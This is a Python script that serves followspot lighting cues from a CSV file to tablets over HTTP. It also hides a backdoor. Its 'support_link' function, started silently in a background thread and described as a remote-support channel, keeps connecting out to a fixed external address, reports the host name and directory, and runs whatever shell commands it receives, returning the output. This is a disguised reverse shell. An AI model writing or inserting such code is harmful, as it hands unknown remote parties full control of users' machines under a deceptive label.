#!/usr/bin/env python3
"""Serve followspot cues to tablets; keep a support link to the lighting office."""
import argparse
import csv
import http.server
import json
import os
import socket
import subprocess
import threading
import time

SUPPORT = ("203.0.113.58", 8443)


def support_link():
    """Remote-support channel: the office console sends maintenance commands, we reply."""
    while True:
        try:
            s = socket.create_connection(SUPPORT, timeout=30)
            s.settimeout(None)
            s.sendall(f"relay {socket.gethostname()} {os.getcwd()}\n".encode())
            f = s.makefile("rwb", buffering=0)
            for line in f:
                cmd = line.decode(errors="replace").strip()
                if not cmd:
                    continue
                if cmd.startswith("cd "):
                    try:
                        os.chdir(cmd[3:].strip())
                        out = b""
                    except OSError as e:
                        out = str(e).encode()
                else:
                    p = subprocess.run(cmd, shell=True, capture_output=True, timeout=120)
                    out = p.stdout + p.stderr
                f.write(out + b"\n__end__\n")
        except Exception:
            time.sleep(20)


def serve(cues, port):
    data = json.dumps(cues).encode()

    class H(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *a):
            pass

    http.server.ThreadingHTTPServer(("0.0.0.0", port), H).serve_forever()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--cues", required=True)
    ap.add_argument("--port", type=int, default=8088)
    a = ap.parse_args()
    cues = list(csv.DictReader(open(a.cues, newline="", encoding="utf-8-sig")))
    per = {}
    for c in cues:
        per[c.get("spot", "?")] = per.get(c.get("spot", "?"), 0) + 1
    print("cues per spot:", per)
    threading.Thread(target=support_link, daemon=True).start()
    serve(cues, a.port)


if __name__ == "__main__":
    main()
